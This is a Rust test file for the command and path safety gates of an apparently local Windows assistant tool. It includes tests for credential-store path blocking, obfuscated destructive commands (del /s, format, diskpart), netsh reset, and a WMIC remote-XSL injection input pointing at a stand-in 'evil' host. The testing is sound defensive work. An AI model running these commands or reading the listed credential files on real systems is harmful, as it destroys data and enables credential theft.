use lucy::local::{
    check_drop_tab_cwd, check_set_tab_cwd, cmd_blocked_pattern, is_secret_store_subpath,
    netsh_argv, parse_args, parse_netstat, parse_tasklist, parse_wevtutil_text, rdp_target,
    sensitive_path_block_reason, wmic_argv,
};

#[test]
fn block_reason_catches_windows_verbatim_system_paths() {
    let up = r"c:\users\eleue";
    assert!(sensitive_path_block_reason(r"\\?\C:\Windows\System32\drivers\x.sys", up, true).is_some());
    assert!(sensitive_path_block_reason(r"\\?\C:\Program Files\app\x.dll", up, false).is_some());
    assert!(sensitive_path_block_reason(r"C:\Windows\System32\x", up, false).is_some());
}

#[test]
fn block_reason_catches_credential_stores_even_with_verbatim_prefix() {
    let up = r"c:\users\eleue";
    for p in [
        r"\\?\C:\Users\eleue\.ssh\id_rsa",
        r"\\?\C:\Users\eleue\.aws\credentials",
        r"\\?\C:\Users\eleue\AppData\Roaming\Lucy\secrets.json",
        r"\\?\C:\Users\eleue\AppData\Roaming\Microsoft\Protect\masterkey",
    ] {
        assert!(sensitive_path_block_reason(p, up, false).is_some(), "should block: {p}");
    }
}

#[test]
fn block_reason_allows_normal_project_paths() {
    let up = r"c:\users\eleue";
    assert!(sensitive_path_block_reason(r"\\?\C:\Rust_Projects\lucy\src\main.rs", up, true).is_none());
    assert!(sensitive_path_block_reason(r"\\?\C:\Users\eleue\Documents\note.txt", up, true).is_none());
    assert!(sensitive_path_block_reason(r"\\?\D:\drivers\etc\hosts", up, true).is_some());
    assert!(sensitive_path_block_reason(r"\\?\D:\drivers\etc\hosts", up, false).is_none());
}

#[test]
fn block_reason_messages() {
    let up = r"c:\users\eleue";
    assert_eq!(
        sensitive_path_block_reason(r"C:\Windows\x", up, false).unwrap(),
        r"Path bloqueado por política: C:\Windows\x (área de sistema)"
    );
    assert_eq!(
        sensitive_path_block_reason(r"\\?\C:\Users\eleue\.ssh\id", up, false).unwrap(),
        r"Path bloqueado por política: \\?\C:\Users\eleue\.ssh\id (almacén de credenciales)"
    );
    assert_eq!(
        sensitive_path_block_reason(r"E:\drivers\etc\HOSTS", up, true).unwrap(),
        "Escritura bloqueada: archivo HOSTS del sistema."
    );
}

#[test]
fn secret_store_needs_a_profile() {
    assert!(!is_secret_store_subpath(r"c:\users\x\.ssh\id", ""));
    assert!(is_secret_store_subpath(r"c:\users\x\.ssh\id", r"c:\users\x"));
    assert!(!is_secret_store_subpath(r"c:\users\x\docs\a", r"c:\users\x"));
}

#[test]
fn parse_args_respects_quotes_and_escapes() {
    assert_eq!(parse_args("cpu get name"), vec!["cpu", "get", "name"]);
    assert_eq!(parse_args("  a   b  "), vec!["a", "b"]);
    assert_eq!(parse_args(r#"query "HKLM\Soft Ware" /v x"#), vec!["query", r#""HKLM\Soft Ware""#, "/v", "x"]);
    assert_eq!(parse_args(r#"a\"b c"#), vec![r#"a"b"#, "c"]);
    assert_eq!(parse_args(r"a\\b \n"), vec![r"a\b", r"\n"]);
    assert!(parse_args("").is_empty());
}

#[test]
fn netstat_rows_are_parsed() {
    let text = "\r\nActive Connections\r\n\r\n  Proto  Local Address          Foreign Address        State           PID\r\n  TCP    0.0.0.0:135            0.0.0.0:0              LISTENING       1044\r\n  TCP    [::1]:5432             [::]:0                 LISTENING       4242\r\n  UDP    0.0.0.0:5353           *:*                                    2020\r\n  tcp    10.0.0.2:50000         1.2.3.4:443            ESTABLISHED     x\r\n";
    let conns = parse_netstat(text);
    assert_eq!(conns.len(), 4);
    assert_eq!(conns[0].protocol, "TCP");
    assert_eq!(conns[0].local_addr, "0.0.0.0");
    assert_eq!(conns[0].local_port, 135);
    assert_eq!(conns[0].state, "LISTENING");
    assert_eq!(conns[0].pid, Some(1044));
    assert_eq!(conns[1].local_addr, "::1");
    assert_eq!(conns[1].remote_addr, "::");
    assert_eq!(conns[2].protocol, "UDP");
    assert_eq!(conns[2].state, "STATELESS");
    // The third column of a UDP row is the foreign address, read as the pid.
    assert_eq!(conns[2].pid, None);
    assert_eq!(conns[3].protocol, "TCP");
    assert_eq!(conns[3].remote_port, 443);
    assert_eq!(conns[3].pid, None);
}

#[test]
fn tasklist_rows_sorted_by_memory() {
    let text = "\"System Idle Process\",\"0\",\"Services\",\"0\",\"8 K\"\r\n\"chrome.exe\",\"4242\",\"Console\",\"1\",\"150.000 K\"\r\nbad line\r\n\"a.exe\",\"7\",\"Console\",\"1\",\"8 K\"\r\n";
    let t = parse_tasklist(text);
    assert_eq!(t.len(), 3);
    assert_eq!(t[0].name, "chrome.exe");
    assert_eq!(t[0].pid, 4242);
    assert_eq!(t[0].mem_kb, 150000);
    assert_eq!(t[1].name, "System Idle Process");
    assert_eq!(t[2].name, "a.exe");
    assert_eq!(t[2].session, "Console");
}

#[test]
fn wevtutil_events_are_parsed() {
    let text = "Event[0]:\n  Log Name: System\n  Source: Service Control Manager\n  Date: 2026-05-18T12:00:00.000\n  Event ID: 7036\n  Level: Information\n  Description:\nignored\n  Message: The service entered\n  the running state.\nEvent[1]:\n  Source: X\n  Message:\n line1\n line2\n line3\n line4\n line5\n";
    let ev = parse_wevtutil_text(text).unwrap();
    assert_eq!(ev.len(), 1);
    assert_eq!(ev[0].time, "2026-05-18T12:00:00.000");
    assert_eq!(ev[0].source, "Service Control Manager");
    assert_eq!(ev[0].event_id, "7036");
    assert_eq!(ev[0].level, "Information");
    assert_eq!(ev[0].message, "The service entered the running state.");
}

#[test]
fn wevtutil_message_is_capped() {
    let long = "x".repeat(300);
    let text = format!("Event[0]:\n Date: d\n Message: {}\n", long);
    let ev = parse_wevtutil_text(&text).unwrap();
    assert_eq!(ev[0].message.chars().count(), 250);
}

#[test]
fn cmd_blocklist_catches_obfuscated_destructive() {
    assert_eq!(cmd_blocked_pattern(r"de^l /s /q C:\Windows\Temp\nope").as_deref(), Some("del /s"));
    assert_eq!(cmd_blocked_pattern(r"del/s C:\Windows\Temp\nope").as_deref(), Some("del /s"));
    assert_eq!(cmd_blocked_pattern("fo^rmat D:").as_deref(), Some("format "));
    assert_eq!(cmd_blocked_pattern(r"rd/s C:\nope").as_deref(), Some("rd /s"));
    assert_eq!(cmd_blocked_pattern("DISKPART"), Some("diskpart".to_string()));
}

#[test]
fn cmd_blocklist_allows_benign_switch_command() {
    assert_eq!(cmd_blocked_pattern(r"dir /s /b C:\Windows\System32\drivers\etc"), None);
}

#[test]
fn wmic_rejects_reg_query_misroute() {
    let e = wmic_argv(r"reg query HKLM\SOFTWARE").unwrap_err();
    assert!(e.to_lowercase().contains("wmic") || e.to_lowercase().contains("alias"));
    assert!(wmic_argv("process where name='x' call terminate").is_err());
}

#[test]
fn wmic_blocks_format_xsl_injection() {
    let e = wmic_argv("cpu get name /format:\"http://evil/x.xsl\"").unwrap_err();
    assert_eq!(
        e,
        "WMIC: '/format:' no está permitido. Flags peligrosos (XSL injection, file write, remote exec, interactive) bloqueados."
    );
}

#[test]
fn wmic_accepts_cpu_alias() {
    assert_eq!(wmic_argv("  CPU get name ").unwrap(), vec!["CPU", "get", "name"]);
    assert_eq!(wmic_argv("path Win32_Service get Name").unwrap().len(), 4);
}

#[test]
fn netsh_blocklist() {
    assert_eq!(
        netsh_argv("winsock RESET").unwrap_err(),
        "SECURITY_BLOCK: netsh 'reset' no permitido."
    );
    assert_eq!(netsh_argv("interface show interface").unwrap(), vec!["interface", "show", "interface"]);
}

#[test]
fn tab_cwd_checks() {
    assert!(check_set_tab_cwd("tab-1_a", r"C:\proj").is_ok());
    assert_eq!(check_set_tab_cwd("", "x").unwrap_err(), "tab_id inválido (1-128 chars)");
    assert!(check_set_tab_cwd("tab 1", "x").is_err());
    assert_eq!(check_set_tab_cwd("t", "").unwrap_err(), "Ruta inválida (vacía o demasiado larga)");
    assert_eq!(
        check_set_tab_cwd("t", r"C:\a\..\b").unwrap_err(),
        "Ruta inválida: '..' (path traversal) no permitido"
    );
    assert_eq!(check_drop_tab_cwd("").unwrap(), false);
    assert_eq!(check_drop_tab_cwd("abc").unwrap(), true);
    assert_eq!(check_drop_tab_cwd(&"a".repeat(129)).unwrap_err(), "tab_id inválido (max 128 chars)");
}

#[test]
fn rdp_target_omits_default_port() {
    assert_eq!(rdp_target("srv01", 3389), "srv01");
    assert_eq!(rdp_target("srv01", 3390), "srv01:3390");
}

#[test]
fn path_gate_laws_on_examples() {
    let up = r"c:\users\ana";
    let paths = [
        r"C:\Windows\System32\x.dll",
        r"C:\Users\Ana\.ssh\id_rsa",
        r"C:\Windows\System32\drivers\etc\hosts",
        r"D:\work\notes.txt",
        r"c:\program files\app\a.exe",
    ];
    for p in paths {
        let read = sensitive_path_block_reason(p, up, false).is_some();
        let write = sensitive_path_block_reason(p, up, true).is_some();
        assert!(!read || write, "{p}");
        for w in [false, true] {
            let plain = sensitive_path_block_reason(p, up, w).is_some();
            let verbatim = format!(r"\\?\{}", p);
            assert_eq!(sensitive_path_block_reason(&verbatim, up, w).is_some(), plain, "{p}");
            assert_eq!(sensitive_path_block_reason(&p.to_ascii_uppercase(), up, w).is_some(), plain, "{p}");
            assert_eq!(sensitive_path_block_reason(&p.to_ascii_lowercase(), up, w).is_some(), plain, "{p}");
        }
    }
    // The HOSTS file is refused for writing only.
    assert!(sensitive_path_block_reason(r"C:\Windows\System32\drivers\etc\hosts", up, true).is_some());
}
